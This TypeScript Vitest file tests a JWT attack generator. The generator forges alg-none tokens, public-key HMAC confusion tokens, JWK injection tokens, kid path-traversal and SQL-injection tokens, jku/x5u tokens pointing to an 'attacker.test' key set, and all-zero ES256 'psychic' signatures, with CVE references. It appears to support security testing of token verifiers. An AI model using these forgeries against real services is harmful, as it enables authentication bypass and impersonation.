import { createHmac, createPublicKey } from 'node:crypto';
import { compactVerify, exportPKCS8, exportSPKI, generateKeyPair, importJWK, jwtVerify, SignJWT, EmbeddedJWK } from 'jose';
import { describe, expect, it } from 'vitest';
import { generateAttacks, KID_SQL, KID_SQL_SECRET, KID_TRAVERSAL, type AttackVariant } from './attacks';
import { hmacSha256 } from './hmac';

const NOW = 1_800_000_000;
const parts = (token: string) => token.split('.');
const headerOf = (token: string) => JSON.parse(Buffer.from(parts(token)[0]!, 'base64url').toString('utf8')) as Record<string, unknown>;
const claimsOf = (token: string) => JSON.parse(Buffer.from(parts(token)[1]!, 'base64url').toString('utf8')) as Record<string, unknown>;
/** An independent HS256 check with node:crypto. */
const hmacValid = (token: string, secret: string | Buffer) => {
  const [h, p, s] = parts(token);
  return createHmac('sha256', secret).update(`${h}.${p}`).digest('base64url') === s;
};
const find = (variants: AttackVariant[], id: string) => {
  const variant = variants.find((item) => item.id === id);
  if (!variant) throw new Error(`no variant ${id}`);
  return variant;
};

async function es256Setup() {
  const { publicKey, privateKey } = await generateKeyPair('ES256', { extractable: true });
  const token = await new SignJWT({ sub: 'alice', iat: NOW - 60, exp: NOW + 600 }).setProtectedHeader({ alg: 'ES256', typ: 'JWT', kid: 'k1' }).sign(privateKey);
  return { publicKey, privateKey, token, spki: await exportSPKI(publicKey), pkcs8: await exportPKCS8(privateKey) };
}

describe('generateAttacks', () => {
  it('strips the signature and spells alg none four ways, keeping the payload as it was', async () => {
    const { token } = await es256Setup();
    const result = await generateAttacks({ token, now: NOW });
    if (!result.ok) throw new Error(result.error);
    const none = result.variants.filter((variant) => variant.attack === 'alg-none');
    expect(none.map((variant) => headerOf(variant.token).alg)).toEqual(['none', 'None', 'NONE', 'nOnE']);
    for (const variant of none) {
      expect(parts(variant.token)[2]).toBe('');
      expect(parts(variant.token)[1]).toBe(parts(token)[1]);
      expect(Object.keys(headerOf(variant.token))).toEqual(['alg', 'typ', 'kid']);
      expect(variant.reference).toMatch(/RFC 8725/);
    }
  });

  it('signs HS256 with the bytes of the public key PEM (key confusion), checked by node:crypto', async () => {
    const { token, spki } = await es256Setup();
    const result = await generateAttacks({ token, keyText: spki, now: NOW });
    if (!result.ok) throw new Error(result.error);
    const confusion = result.variants.filter((variant) => variant.attack === 'key-confusion');
    expect(confusion).toHaveLength(2);
    const pemText = spki.trimEnd();
    expect(hmacValid(find(confusion, 'key-confusion-pem').token, `${pemText}\n`)).toBe(true);
    expect(hmacValid(find(confusion, 'key-confusion-pem-trimmed').token, pemText)).toBe(true);
    expect(hmacValid(find(confusion, 'key-confusion-pem').token, pemText)).toBe(false);
    expect(headerOf(confusion[0]!.token).alg).toBe('HS256');
    expect(confusion[0]!.reference).toContain('CVE-2016-10555');
    // The PEM is the same key the user gave.
    expect(createPublicKey(find(confusion, 'key-confusion-pem').extra!.text).export({ format: 'jwk' })).toEqual(createPublicKey(spki).export({ format: 'jwk' }));
  });

  it('from an RSA private key, confuses with its public PEM', async () => {
    const { privateKey, publicKey } = await generateKeyPair('RS256', { extractable: true });
    const token = await new SignJWT({ sub: 'bob' }).setProtectedHeader({ alg: 'RS256' }).sign(privateKey);
    const result = await generateAttacks({ token, keyText: await exportPKCS8(privateKey), now: NOW });
    if (!result.ok) throw new Error(result.error);
    const variant = find(result.variants, 'key-confusion-pem');
    expect(hmacValid(variant.token, `${(await exportSPKI(publicKey)).trimEnd()}\n`)).toBe(true);
  });

  it('embeds a fresh key in the header that verifies the token (jwk injection)', async () => {
    const { token, publicKey } = await es256Setup();
    const result = await generateAttacks({ token, now: NOW });
    if (!result.ok) throw new Error(result.error);
    const variant = find(result.variants, 'jwk-injection');
    const verified = await compactVerify(variant.token, EmbeddedJWK);
    expect(verified.protectedHeader.alg).toBe('ES256');
    await expect(compactVerify(variant.token, publicKey)).rejects.toThrow();
    expect(claimsOf(variant.token)).toEqual(claimsOf(token));
  });

  it('makes kid traversal (empty secret) and SQL injection variants', async () => {
    const { token } = await es256Setup();
    const result = await generateAttacks({ token, now: NOW });
    if (!result.ok) throw new Error(result.error);
    const traversal = find(result.variants, 'kid-path-traversal');
    expect(headerOf(traversal.token)).toMatchObject({ alg: 'HS256', kid: KID_TRAVERSAL });
    expect(hmacValid(traversal.token, Buffer.alloc(0))).toBe(true);
    const sql = find(result.variants, 'kid-sql-injection');
    expect(headerOf(sql.token).kid).toBe(KID_SQL);
    expect(hmacValid(sql.token, KID_SQL_SECRET)).toBe(true);
  });

  it('writes a typed jku/x5u address into tokens signed by a key it offers to serve', async () => {
    const { token } = await es256Setup();
    const without = await generateAttacks({ token, now: NOW });
    expect(without.ok && without.variants.some((variant) => variant.attack === 'jku')).toBe(false);
    expect(without.ok && without.skipped.find((skip) => skip.attack === 'jku')?.reason).toMatch(/Type an address/);
    const bad = await generateAttacks({ token, now: NOW, jkuUrl: 'file:///etc/passwd' });
    expect(bad.ok && bad.skipped.find((skip) => skip.attack === 'jku')?.reason).toMatch(/not an http/);

    const result = await generateAttacks({ token, now: NOW, jkuUrl: 'https://attacker.test/jwks.json' });
    if (!result.ok) throw new Error(result.error);
    const jku = find(result.variants, 'jku');
    const x5u = find(result.variants, 'x5u');
    expect(headerOf(jku.token).jku).toBe('https://attacker.test/jwks.json');
    expect(headerOf(x5u.token).x5u).toBe('https://attacker.test/jwks.json');
    const jwks = JSON.parse(jku.extra!.text) as { keys: Record<string, unknown>[] };
    const key = await importJWK(jwks.keys[0]!, 'ES256');
    await expect(compactVerify(jku.token, key)).resolves.toBeTruthy();
    expect(jwks.keys[0]!.d).toBeUndefined();
  });

  it('re-signs expired and not-yet-valid copies with the user key, which jose verifies but rejects on time', async () => {
    const { token, pkcs8, publicKey } = await es256Setup();
    const result = await generateAttacks({ token, keyText: pkcs8, now: NOW });
    if (!result.ok) throw new Error(result.error);
    const expired = find(result.variants, 'expired');
    const future = find(result.variants, 'not-yet-valid');
    expect(claimsOf(expired.token)).toEqual({ sub: 'alice', iat: NOW - 7200, exp: NOW - 3600 });
    expect(claimsOf(future.token)).toEqual({ sub: 'alice', iat: NOW - 60, exp: NOW + 7200, nbf: NOW + 3600 });
    for (const variant of [expired, future]) await expect(compactVerify(variant.token, publicKey)).resolves.toBeTruthy();
    await expect(jwtVerify(expired.token, publicKey, { currentDate: new Date(NOW * 1000) })).rejects.toThrow(/exp/);
    await expect(jwtVerify(future.token, publicKey, { currentDate: new Date(NOW * 1000) })).rejects.toThrow(/nbf/);
  });

  it('re-signs with an HMAC secret too, and skips with a reason when the key cannot sign', async () => {
    const secret = 'a-long-enough-secret-for-hs256-tokens!';
    const token = await new SignJWT({ sub: 'carol' }).setProtectedHeader({ alg: 'HS256' }).sign(new TextEncoder().encode(secret));
    const result = await generateAttacks({ token, keyText: secret, now: NOW });
    if (!result.ok) throw new Error(result.error);
    expect(hmacValid(find(result.variants, 'expired').token, secret)).toBe(true);
    expect(result.skipped.map((skip) => skip.attack)).toEqual(['key-confusion', 'jku', 'psychic-signature']);

    const { token: es, spki } = await es256Setup();
    const publicOnly = await generateAttacks({ token: es, keyText: spki, now: NOW });
    expect(publicOnly.ok && publicOnly.skipped.find((skip) => skip.attack === 'expired')?.reason).toMatch(/key that can sign ES256/);
  });

  it('gives ES256 an all-zero signature (psychic signature) that a correct verifier rejects', async () => {
    const { token, publicKey } = await es256Setup();
    const result = await generateAttacks({ token, now: NOW });
    if (!result.ok) throw new Error(result.error);
    const psychic = find(result.variants, 'psychic-signature');
    expect(Buffer.from(parts(psychic.token)[2]!, 'base64url')).toEqual(Buffer.alloc(64));
    expect(psychic.reference).toBe('CVE-2022-21449');
    await expect(compactVerify(psychic.token, publicKey)).rejects.toThrow();
  });

  it('refuses what is not a signed token, with a reason', async () => {
    expect(await generateAttacks({ token: 'a.b.c.d.e' })).toMatchObject({ ok: false, error: expect.stringMatching(/JWE/) });
    expect(await generateAttacks({ token: 'nonsense' })).toMatchObject({ ok: false });
    expect(await generateAttacks({ token: 'bm90IGpzb24.e30.' })).toMatchObject({ ok: false, error: expect.stringMatching(/header/) });
  });
});

describe('hmacSha256', () => {
  it('matches node:crypto, including an empty and a long key', async () => {
    for (const key of ['', 'k', 'x'.repeat(100)]) {
      const mine = await hmacSha256(new TextEncoder().encode(key), new TextEncoder().encode('message'));
      expect(Buffer.from(mine).toString('hex')).toBe(createHmac('sha256', key).update('message').digest('hex'));
    }
  });
});

